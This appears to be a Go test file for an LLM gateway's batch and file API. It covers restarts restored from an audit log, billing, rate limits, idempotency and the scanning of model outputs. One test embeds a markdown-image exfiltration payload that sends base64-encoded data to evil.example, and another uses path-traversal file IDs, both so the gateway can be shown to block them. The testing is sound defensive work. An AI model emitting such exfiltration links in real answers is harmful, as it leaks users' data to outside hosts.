package gateway_test

import (
	"context"
	"errors"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/llmaas/llmaas-go/guard/output"
	"github.com/llmaas/llmaas-go/llmaas/gateway"
	"github.com/llmaas/llmaas-go/llmaas/gateway/access"
	"github.com/llmaas/llmaas-go/llmaas/gateway/audit"
	"github.com/llmaas/llmaas-go/llmaas/gateway/limit"
	"github.com/llmaas/llmaas-go/llmaas/gateway/metrics"
	"github.com/llmaas/llmaas-go/llmaas/llmaastest"
)

// again is the same gateway after a restart, with what the audit tells it.
func (h *house) again(t *testing.T, cfg gateway.Config, restore bool) {
	t.Helper()
	g, err := gateway.New(cfg)
	require.NoError(t, err)
	if restore {
		require.NoError(t, h.log.Sync())
		for r, err := range audit.Records(h.auditDir, audit.Filter{From: noon.Add(-gateway.Remembered)}, h.auditKey) {
			require.NoError(t, err)
			g.Restore(t.Context(), r, true)
		}
	}
	h.Config.Handler = g
}

// TestRestore restarts the gateway between all that can be asked about a batch.
func TestRestore(t *testing.T) {
	var cfg gateway.Config
	var state *limit.Memory
	h := newHouse(t, func(_ *house, c *gateway.Config) { state = limited(t, c, 1000); cfg = *c })
	restart := func() { state = limited(t, &cfg, 1000); h.again(t, cfg, true) }
	odd := h.upload(t, h.key, `{"custom_id":"a"}`)
	file := h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", `,"max_tokens":100`)))
	h.again(t, cfg, false)
	require.Equal(t, 404, h.send(t, h.key, "GET", "/v1/files/"+file, "").status, "without the audit it is nobody's")
	restart()
	require.Equal(t, 400, h.send(t, h.key, "POST", "/v1/batches", order(odd)).status, "what could not be run still cannot")
	batch := h.batch(t, h.key, file)
	restart()
	require.EqualValues(t, 100, reserved(t, state, "acme"), "its worst case is held again")
	results := h.finish(t, h.key, batch).field(t, "output_file_id")
	output, cost := h.books(t)
	require.Positive(t, output)
	require.EqualValues(t, output, reserved(t, state, "acme"))
	restart()
	require.Zero(t, reserved(t, state, "acme"), "what the record says is the host's to charge")
	require.Equal(t, 200, h.send(t, h.key, "GET", "/v1/files/"+results+"/content", "").status)
	h.finish(t, h.key, batch)
	again, costAgain := h.books(t)
	require.Equal(t, []int64{output, cost}, []int64{again, costAgain}, "billed once")
	require.Equal(t, 200, h.send(t, h.key, "DELETE", "/v1/files/"+file, "").status)
	restart()
	require.Equal(t, 404, h.send(t, h.key, "GET", "/v1/files/"+file, "").status)
	other := h.mint(t, "poor", everything)
	require.Equal(t, 404, h.send(t, other, "GET", "/v1/files/"+results, "").status)
}

// TestBatchThatNobodyAsksFor is billed at its worst when its results are gone.
func TestBatchThatNobodyAsksFor(t *testing.T) {
	now := noon
	var state *limit.Memory
	h := newHouse(t, func(_ *house, c *gateway.Config) {
		c.Now = func() time.Time { return now }
		state = limited(t, c, 1000)
	})
	file := h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", `,"max_tokens":100`)))
	batch := h.batch(t, h.key, file)
	now = now.Add(gateway.Remembered - 1)
	h.upload(t, h.key, "a")
	output, _ := h.books(t)
	require.Zero(t, output)
	now = now.Add(1) // not swept yet, and forgotten all the same
	require.Equal(t, 404, h.send(t, h.key, "GET", "/v1/batches/"+batch, "").status)
	for range 2 { // sweeps
		now = now.Add(time.Minute)
		h.upload(t, h.key, "a")
	}
	output, cost := h.books(t)
	require.EqualValues(t, 100, output)
	require.Greater(t, cost, int64(100*4000))
	require.EqualValues(t, 100, reserved(t, state, "acme"), "in the hour in which it was made")
	for _, r := range h.records(t) {
		require.Equal(t, r.Output > 0, r.Estimated)
	}
}

// TestBatchesOfAList are billed by the list that shows their end.
func TestBatchesOfAList(t *testing.T) {
	h := newHouse(t, nil)
	file := h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", `,"max_tokens":9`)))
	for range 3 {
		h.batch(t, h.key, file)
	}
	for range 5 {
		require.Equal(t, 200, h.send(t, h.key, "GET", "/v1/batches", "").status)
	}
	var settled, cost int64
	for _, r := range h.records(t) {
		for _, o := range r.Objects {
			if o.Event == "settled" {
				settled++
				cost = max(cost, r.Cost)
			}
		}
	}
	require.EqualValues(t, 3, settled)
	output, total := h.books(t)
	require.Positive(t, output)
	require.Equal(t, cost, total, "all on one record")
}

// TestTenBatchesAtOnce is as many as the service runs for a tenant. Those whose
// end was seen do not count.
func TestTenBatchesAtOnce(t *testing.T) {
	h := newHouse(t, nil)
	file := h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", `,"max_tokens":9`)))
	var last string
	for range 10 {
		last = h.batch(t, h.key, file)
	}
	before := len(h.upstream())
	got := h.send(t, h.key, "POST", "/v1/batches", order(file))
	require.Equal(t, 429, got.status)
	require.Contains(t, got.body, "too_many_batches")
	require.Len(t, h.upstream(), before)
	require.Equal(t, 200, h.send(t, h.key, "POST", "/v1/batches/"+last+"/cancel", "").status)
	h.batch(t, h.key, file)
}

// TestBooksOfManyBatches has tenants make, watch, cancel and list batches at the
// same time, on machines that fail now and then. In the end the audit, the metrics
// and the limits say the same of each tenant.
func TestBooksOfManyBatches(t *testing.T) {
	var state *limit.Memory
	h := newHouse(t, func(h *house, c *gateway.Config) {
		state = limited(t, c, 1_000_000)
		var err error
		h.metrics, err = metrics.New(metrics.Options{Now: h.clock, History: 10_000})
		require.NoError(t, err)
		c.Metrics = h.metrics
		next, calls := c.Backends, new(atomic.Int64)
		c.Backends = roundTrip(func(r *http.Request) (*http.Response, error) {
			if calls.Add(1)%7 == 0 {
				return nil, errors.New("connection reset")
			}
			return next.RoundTrip(r)
		})
	})
	var group sync.WaitGroup
	tenants := []string{"t0", "t1", "t2", "t3"}
	for _, tenant := range tenants {
		require.NoError(t, h.keys.PutTenant(t.Context(), access.Tenant{ID: tenant}))
		key := h.mint(t, tenant, everything)
		for worker := range 3 {
			random := rand.New(rand.NewPCG(uint64(worker), 7))
			group.Go(func() {
				var batches []string
				file := ""
				for range 40 {
					switch n := random.IntN(8); {
					case file == "" || n == 0:
						got := h.send(t, key, "POST", "/v1/files", form(line("a", chat("llama3.3:70b", "Hello", `,"max_tokens":50`))), "Content-Type", "multipart/form-data; boundary=b")
						if got.status == 200 {
							file = got.field(t, "id")
						}
					case n == 1:
						if got := h.send(t, key, "POST", "/v1/batches", order(file)); got.status == 200 {
							batches = append(batches, got.field(t, "id"))
						}
					case n == 2:
						h.send(t, key, "GET", "/v1/batches", "")
					case n == 3 && len(batches) > 0:
						h.send(t, key, "POST", "/v1/batches/"+batches[random.IntN(len(batches))]+"/cancel", "")
					case len(batches) > 0:
						h.send(t, key, "GET", "/v1/batches/"+batches[random.IntN(len(batches))], "")
					}
				}
				for range 15 { // until all have ended and been seen
					h.send(t, key, "GET", "/v1/batches", "")
				}
			})
		}
	}
	group.Wait()
	h.books(t)
	output, settled := make(map[string]int64), 0
	for _, r := range h.records(t) {
		output[r.Tenant] += r.Output
		for _, o := range r.Objects {
			if o.Event == "settled" {
				settled++
			}
		}
	}
	require.Greater(t, settled, 10)
	for _, tenant := range tenants {
		require.Equal(t, output[tenant], reserved(t, state, tenant), tenant)
	}
}

// TestResultsThatAreGone leave only the worst case.
func TestResultsThatAreGone(t *testing.T) {
	h := newHouse(t, nil)
	batch := h.batch(t, h.key, h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", `,"max_tokens":77`))))
	for _, m := range h.machines {
		m.Script(llmaastest.Reply{Path: "/batches/" + batch, Status: 200, Body: `{"id":"` + batch + `","status":"completed","output_file_id":"file-0099","error_file_id":null}`})
	}
	require.Equal(t, 200, h.send(t, h.key, "GET", "/v1/batches/"+batch, "").status)
	output, _ := h.books(t)
	require.EqualValues(t, 77, output)
}

// TestResultsWithoutCounts are billed by what was said.
func TestResultsWithoutCounts(t *testing.T) {
	h := newHouse(t, nil)
	batch := h.batch(t, h.key, h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", ""))))
	for _, m := range h.machines {
		m.Script(
			llmaastest.Reply{Path: "/batches/" + batch + "/cancel", Status: 200, Body: `{"id":"` + batch + `","status":"cancelled","output_file_id":"file-0099"}`},
			llmaastest.Reply{Path: "/files/file-0099/content", Status: 200, Body: "no result\n" + `{"response":{"status_code":200,"body":{"model":"llama3.3:70b","choices":[{"message":{"content":"A few words of an answer."}}]}}}` + "\n" +
				`{"response":{"status_code":500,"body":{"usage":{"prompt_tokens":1,"completion_tokens":999}}},"error":null}` + "\n" + `{"response":null,"error":{"code":"x"}}`},
		)
	}
	require.Equal(t, 200, h.send(t, h.key, "POST", "/v1/batches/"+batch+"/cancel", "").status)
	output, _ := h.books(t)
	require.Positive(t, output)
	require.Less(t, output, int64(20))
	records := h.records(t)
	require.True(t, records[len(records)-1].Estimated)
}

// TestResultsAreScanned as answers are: one that must not go on fails, the others
// pass as they are.
func TestResultsAreScanned(t *testing.T) {
	const evil = "Here it is: ![x](https://evil.example/?data=c2VjcmV0IGRhdGEgaGVyZQ) and more."
	answered := func(id, text string) string {
		return `{"id":"r-` + id + `","custom_id":"` + id + `", "response":{"status_code":200,"body":` + text + `},"error":null}` + "\n"
	}
	says := func(text string) string {
		return `{"model":"llama3.3:70b","choices":[{"index":0,"message":{"content":"` + text + `"}}],"usage":{"prompt_tokens":1,"completion_tokens":2}}`
	}
	good, odd := answered("a", says("Good day.")), "no result "
	for _, scan := range []bool{true, false} {
		h := newHouse(t, func(_ *house, c *gateway.Config) {
			if scan {
				rules, err := output.New(output.Options{})
				require.NoError(t, err)
				c.Output = rules
			}
		})
		batch := h.batch(t, h.key, h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", ""))))
		file := good + answered("b", says(evil)) + odd + evil + "\n" + good + "end"
		for _, m := range h.machines {
			m.Script(
				llmaastest.Reply{Path: "/batches/" + batch, Status: 200, Body: `{"id":"` + batch + `","status":"completed","output_file_id":"file-0099"}`},
				llmaastest.Reply{Path: "/files/file-0099/content", Status: 200, Body: file, Times: 2},
			)
		}
		require.Equal(t, 200, h.send(t, h.key, "GET", "/v1/batches/"+batch, "").status)
		got := h.send(t, h.key, "GET", "/v1/files/file-0099/content", "")
		require.Equal(t, 200, got.status)
		if !scan {
			require.Equal(t, file, got.body)
			continue
		}
		const failed = `"response":null,"error":{"code":"answer_blocked","message":"The answer was stopped because it is not safe to pass on."}}` + "\n"
		require.Equal(t, good+`{"id":"r-b","custom_id":"b",`+failed+"{"+failed+good+"end", got.body)
		records := h.records(t)
		last := records[len(records)-1]
		require.NotEmpty(t, last.Steps[len(last.Steps)-1].Rules)
		require.Zero(t, last.Cost, "it was billed before")
	}
}

// TestWhatHasAnEffectIsDoneOnce has machines that fail after they may have taken
// a file: it is not uploaded to another one.
func TestWhatHasAnEffectIsDoneOnce(t *testing.T) {
	h := newHouse(t, nil)
	for _, m := range h.machines {
		m.Script(llmaastest.Reply{Path: "/files", Status: 502})
	}
	got := h.send(t, h.key, "POST", "/v1/files", form("a"), "Content-Type", "multipart/form-data; boundary=b")
	require.Equal(t, 502, got.status)
	require.Len(t, h.upstream(), 1)
}

// TestBatchAskedForTwice has one Idempotency-Key: the machine answers with the
// batch that it has, which is held once.
func TestBatchAskedForTwice(t *testing.T) {
	var state *limit.Memory
	h := newHouse(t, func(_ *house, c *gateway.Config) { state = limited(t, c, 1000) })
	file := h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", `,"max_tokens":100`)))
	batch := h.batch(t, h.key, file)
	for _, m := range h.machines {
		m.Script(llmaastest.Reply{Path: "/batches", Status: 200, Body: `{"id":"` + batch + `","status":"validating"}`})
	}
	require.Equal(t, batch, h.batch(t, h.key, file))
	require.EqualValues(t, 100, reserved(t, state, "acme"))
	for _, m := range h.machines { // and once more when it is over
		m.Script(
			llmaastest.Reply{Path: "/batches", Status: 200, Body: `{"id":"` + batch + `","status":"completed","output_file_id":"file-0099"}`},
			llmaastest.Reply{Path: "/files/file-0099/content", Status: 200, Body: `{"response":{"status_code":200,"body":{"model":"llama3.3:70b","usage":{"prompt_tokens":1,"completion_tokens":7}}}}`},
		)
	}
	require.Equal(t, batch, h.batch(t, h.key, file))
	require.EqualValues(t, 7, reserved(t, state, "acme"))
}

// TestOddAnswersAboutFiles are of machines that say what cannot be remembered.
func TestOddAnswersAboutFiles(t *testing.T) {
	for _, body := range []string{`{}`, `{"id":""}`, `{"id":7}`, `{"id":"../x"}`, `{"id":"a/b"}`, `{"id":".."}`, `[]`, `no JSON`, ``, `{"id":"` + strings.Repeat("a", 300) + `"}`, `{"id":"a","x":"` + strings.Repeat("a", 2<<20) + `"}`} {
		h := newHouse(t, nil)
		for _, m := range h.machines {
			m.Script(llmaastest.Reply{Path: "/files", Status: 200, Body: body})
		}
		got := h.send(t, h.key, "POST", "/v1/files", form(line("a", chat("llama3.3:70b", "Hello", ""))), "Content-Type", "multipart/form-data; boundary=b")
		require.Contains(t, []int{502}, got.status, "%.40s: %s", body, got.body)
		require.Empty(t, h.records(t)[0].Objects)
	}
}

// TestFileThatBreaksOff is not taken for whole.
func TestFileThatBreaksOff(t *testing.T) {
	h := newHouse(t, func(_ *house, c *gateway.Config) {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			_, _ = io.Copy(io.Discard, r.Body)
			if r.Method == http.MethodPost {
				_, _ = io.WriteString(w, `{"id":"file-1"}`)
				return
			}
			_, _ = io.WriteString(w, strings.Repeat("half", 10_000))
			_ = http.NewResponseController(w).Flush()
			panic(http.ErrAbortHandler)
		}))
		t.Cleanup(srv.Close)
		c.Backends = to(srv.URL)
	})
	file := h.upload(t, h.key, "a")
	req, err := http.NewRequestWithContext(t.Context(), "GET", h.URL+"/v1/files/"+file+"/content", nil)
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+h.key)
	resp, err := h.Client().Do(req)
	require.NoError(t, err)
	_, err = io.ReadAll(resp.Body)
	require.Error(t, err)
	require.NoError(t, resp.Body.Close())
	require.Eventually(t, func() bool { return len(h.records(t)) == 2 }, 5*time.Second, time.Millisecond)
	require.Equal(t, 502, h.records(t)[1].Status)
}

// to sends everything to one address, as a host without a balancer may.
type to string

func (base to) RoundTrip(r *http.Request) (*http.Response, error) {
	ctx, cancel := context.WithTimeout(r.Context(), time.Minute)
	req, err := http.NewRequestWithContext(ctx, r.Method, string(base)+r.URL.Path, r.Body)
	if err != nil {
		cancel()
		return nil, errors.Join(err)
	}
	context.AfterFunc(r.Context(), cancel)
	return http.DefaultTransport.RoundTrip(req)
}
